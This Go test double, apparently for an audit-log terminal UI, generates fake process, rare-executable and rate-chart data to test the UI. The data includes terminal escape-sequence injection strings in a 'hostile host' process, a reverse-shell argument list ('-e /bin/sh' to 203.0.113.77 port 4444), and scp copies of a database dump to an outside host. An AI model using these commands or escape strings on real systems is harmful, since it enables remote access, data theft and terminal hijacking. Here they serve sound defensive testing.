package tui

// TEST DOUBLE. The fake backend's drill-down side: plausible, deterministic
// data built from the fake's records, the way the real backend is
// specified to answer. Every host runs a fleet of daily executables (cron,
// a shell, monitoring) in a fixed pattern; each rare record's executable
// runs once in its bucket; the rate record of web-02 is an ssh and scp
// burst; the hostile host runs a process whose every field is an attack on
// the terminal.

import (
	"context"
	"fmt"
	"math"
	"slices"
	"sort"
	"strings"
	"time"

	"github.com/auditlens/auditlens/views/model"
)

// Hostile fields of the hostile host's process.
const (
	evilExe  = "/tmp/\x1b]0;owned\x07x"
	evilArg  = "\x1b[31mred\u202eevil\x9b2J"
	evilUser = "r\x1b[8moot"
	evilCwd  = "/tmp/\x07bell\u2066"
)

// normalExes is what every host runs, with how often: every bucket whose
// index is a multiple of the period (offset by the host's number).
var normalExes = []struct {
	exe    string
	period int
	fleet  int
}{
	{"/usr/sbin/cron", 1, 8},
	{"/usr/bin/dash", 1, 8},
	{"/usr/lib/nagios/plugins/check_load", 2, 8},
	{"/usr/bin/run-parts", 3, 8},
	{"/usr/bin/logrotate", 24, 8},
	{"/usr/bin/apt-get", 12, 6},
	{"/usr/bin/sudo", 5, 4},
}

func (b *fakeBackend) hostIndex(entity string) int {
	i := slices.Index(b.hosts, entity)
	if i < 0 {
		i = slices.Index(b.ctrs, entity)
	}
	return max(i, 0)
}

func fakeAxis(from, to time.Time, span time.Duration) model.TimeAxis {
	if span <= 0 {
		span = time.Hour
	}
	start, end := fakeStart, fakeStart.Add(fakeSpan)
	if !from.IsZero() {
		start = from.Truncate(span)
	}
	if !to.IsZero() {
		end = to
	}
	return model.TimeAxis{Start: start, BucketSpan: span, Buckets: int((end.Sub(start) + span - 1) / span)}
}

func (b *fakeBackend) RareChart(ctx context.Context, q model.RareChartQuery) (model.RareChart, error) {
	if err := ctx.Err(); err != nil {
		return model.RareChart{}, err
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	ax := fakeAxis(q.From, q.To, q.BucketSpan)
	h := b.hostIndex(q.Entity)
	c := model.RareChart{Entity: q.Entity, Scope: q.Scope, Axis: ax, FleetSize: len(b.hosts)}
	if q.Scope == model.ScopeContainer {
		c.FleetSize = len(b.ctrs)
	}
	active := map[int]bool{}
	for _, n := range normalExes {
		r := model.RareRow{Executable: n.exe, Fleet: min(n.fleet, c.FleetSize)}
		for i := 0; i < ax.Buckets; i++ {
			if (i+h)%n.period == 0 {
				r.Buckets = append(r.Buckets, i)
				r.Executions += int64(1 + (i+h)%3)
				active[i] = true
			}
		}
		c.Rows = append(c.Rows, r)
	}
	for _, rec := range b.records {
		if rec.JobID != q.Job || rec.Entity != q.Entity || rec.Executable == "" {
			continue
		}
		i, ok := ax.BucketAt(rec.Time)
		if !ok {
			continue
		}
		c.Rows = append(c.Rows, model.RareRow{Executable: rec.Executable, Buckets: []int{i}, Executions: 1, Fleet: 1})
		c.Marks = append(c.Marks, model.RareMark{Executable: rec.Executable, Bucket: i, Score: rec.Score})
		active[i] = true
	}
	c.ActiveBuckets = len(active)
	sort.SliceStable(c.Rows, func(i, j int) bool { return len(c.Rows[i].Buckets) > len(c.Rows[j].Buckets) })
	return c, nil
}

// fakeProcesses are an entity's executions over the fake's two days: a
// login shell, its commands every 7 minutes, cron, and the records' rare
// executables once in their buckets.
func (b *fakeBackend) fakeProcesses(entity string) []model.Process {
	h := b.hostIndex(entity)
	evil := entity == evilHost
	var out []model.Process
	add := func(t time.Time, exe string, pid, ppid int64, args ...string) {
		p := model.Process{Time: t, Host: entity, Executable: exe, Name: exe[strings.LastIndexByte(exe, '/')+1:],
			Args: append([]string{exe}, args...), User: "root", UserID: "0", AuditUser: "alice", AuditUserID: "1000",
			PID: pid, PPID: ppid, WorkingDir: "/root", Result: "success", Syscall: "execve", Action: "executed",
			Origin: model.ProcessOrigin{File: "/var/log/audit/audit.log", Line: int64(len(out) + 1)}}
		if evil {
			p.User, p.WorkingDir = evilUser, evilCwd
		}
		out = append(out, p)
	}
	shell := int64(4000 + h)
	add(fakeStart, "/usr/bin/bash", shell, 1, "-l")
	pid := int64(5000)
	for t, i := fakeStart.Add(time.Minute), 0; t.Before(fakeStart.Add(fakeSpan)); t, i = t.Add(7*time.Minute), i+1 {
		pid++
		switch i % 4 {
		case 0:
			add(t, "/usr/sbin/cron", pid, 1, "-f")
		case 1:
			add(t, "/usr/bin/ls", pid, shell, "-la", "/etc")
		case 2:
			add(t, "/usr/bin/grep", pid, shell, "-r", "password", "/var/www")
		case 3:
			add(t, "/usr/bin/sudo", pid, shell, "systemctl", "restart", "nginx")
			out[len(out)-1].Result = "fail"
		}
	}
	for _, rec := range b.records {
		switch {
		case rec.Entity != entity:
		case rec.Executable != "":
			pid++
			add(rec.Time.Add(7*time.Minute+13*time.Second), rec.Executable, pid, shell, "-e", "/bin/sh", "203.0.113.77", "4444")
		case len(rec.Influencers) > 1:
			// A rate burst: its executables, one after another, each scp
			// with the ssh it spawns.
			for i, exes := 0, rec.Influencers[1].Values; i < 40; i++ {
				pid++
				t := rec.Time.Add(20*time.Minute + time.Duration(i)*17*time.Second)
				add(t, exes[i%len(exes)], pid, shell, "backup@198.51.100.9", "/srv/db/dump.sql")
			}
		}
	}
	if evil {
		pid++
		add(at(0, 20).Add(9*time.Minute), evilExe, pid, shell, evilArg)
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Time.Before(out[j].Time) })
	return out
}

func (b *fakeBackend) ProcessEvents(ctx context.Context, q model.ProcessQuery) (model.ProcessPage, error) {
	if err := ctx.Err(); err != nil {
		return model.ProcessPage{}, err
	}
	b.mu.Lock()
	b.processQs = append(b.processQs, q)
	b.mu.Unlock()
	limit := q.EffectiveLimit()
	var rows []model.Process
	for _, p := range b.fakeProcesses(q.Entity) {
		switch {
		case !q.From.IsZero() && p.Time.Before(q.From), !q.To.IsZero() && !p.Time.Before(q.To):
		case q.Executable != "" && p.Executable != q.Executable:
		case q.PID != 0 && p.PID != q.PID, q.PPID != 0 && p.PPID != q.PPID:
		default:
			rows = append(rows, p)
		}
	}
	if q.Newest {
		slices.Reverse(rows)
	}
	page := model.ProcessPage{Limit: limit, Source: "fake"}
	if len(rows) > limit {
		rows, page.Truncated = rows[:limit], true
	}
	page.Rows = rows
	return page, nil
}

func (b *fakeBackend) RateChart(ctx context.Context, q model.RateChartQuery) (model.RateChart, error) {
	if err := ctx.Err(); err != nil {
		return model.RateChart{}, err
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	span := q.BucketSpan
	if span <= 0 {
		span = time.Hour
	}
	from, to := q.WindowFrom.Truncate(span), q.WindowTo
	if from.Before(fakeStart) {
		from = fakeStart
	}
	if end := fakeStart.Add(fakeSpan); to.After(end) {
		to = end
	}
	if !from.Before(to) {
		return model.RateChart{}, fmt.Errorf("fake rate chart: window %s–%s outside the data", q.WindowFrom, q.WindowTo)
	}
	ax := model.TimeAxis{Start: from, BucketSpan: span, Buckets: int((to.Sub(from) + span - 1) / span)}
	c := model.RateChart{Entity: q.Entity, Scope: q.Scope, Axis: ax, Focus: -1,
		Points: make([]model.RatePoint, ax.Buckets), Other: make([]int64, ax.Buckets)}
	if i, ok := ax.BucketAt(q.Focus); ok {
		c.Focus = i
	}
	exes := []string{"/usr/bin/ssh", "/usr/bin/scp", "/usr/sbin/cron", "/usr/bin/dash", "/usr/bin/rsync"}
	series := make([]model.ExecutableSeries, len(exes))
	for i, e := range exes {
		series[i] = model.ExecutableSeries{Executable: e, Counts: make([]int64, ax.Buckets)}
	}
	burst := map[int]model.Anomaly{}
	for _, r := range b.records {
		if r.JobID == q.Job && r.Entity == q.Entity {
			if i, ok := ax.BucketAt(r.Time); ok {
				burst[i] = r
			}
		}
	}
	for i := range c.Points {
		hour := float64(ax.BucketStart(i).Hour())
		typical := 60 + 25*math.Sin((hour-6)/24*2*math.Pi)
		cron := int64(12)
		dash := int64(typical/3) + int64(i%5)
		other := int64(typical) - cron - dash + int64(i%7) - 3
		var ssh, scp int64
		if r, ok := burst[i]; ok {
			ssh, scp = int64(r.Actual[0]*0.55), int64(r.Actual[0]*0.3)
			other = int64(r.Actual[0]) - ssh - scp - cron - dash
		}
		series[0].Counts[i], series[1].Counts[i], series[2].Counts[i], series[3].Counts[i] = ssh, scp, cron, dash
		c.Other[i] = max(other, 0)
		actual := float64(ssh + scp + cron + dash + c.Other[i])
		c.Points[i] = model.RatePoint{Actual: actual, Typical: typical, Lower: typical - 25, Upper: typical + 30, Modelled: true}
		if r, ok := burst[i]; ok {
			typical = r.Typical[0]
			c.Points[i] = model.RatePoint{Actual: actual, Typical: typical, Lower: typical - 25, Upper: typical + 30, Modelled: true, Score: r.Score}
		}
	}
	for i := range series {
		for _, n := range series[i].Counts {
			series[i].Total += n
		}
	}
	focus := func(s model.ExecutableSeries) int64 {
		if c.Focus < 0 {
			return 0
		}
		return s.Counts[c.Focus]
	}
	sort.SliceStable(series, func(i, j int) bool {
		if fi, fj := focus(series[i]), focus(series[j]); fi != fj {
			return fi > fj
		}
		return series[i].Total > series[j].Total
	})
	for _, s := range series {
		if s.Total > 0 {
			c.Top = append(c.Top, s)
		}
	}
	for _, e := range q.Influencers {
		var n int64
		for _, s := range series {
			if s.Executable == e {
				n = focus(s)
			}
		}
		c.Drivers = append(c.Drivers, model.RateDriver{Executable: e, Count: n, Usual: 0.4, Influencer: true})
	}
	for _, s := range series {
		if s.Executable == "/usr/bin/dash" && c.Focus >= 0 {
			c.Drivers = append(c.Drivers, model.RateDriver{Executable: s.Executable, Count: s.Counts[c.Focus], Usual: 22})
		}
	}
	return c, nil
}
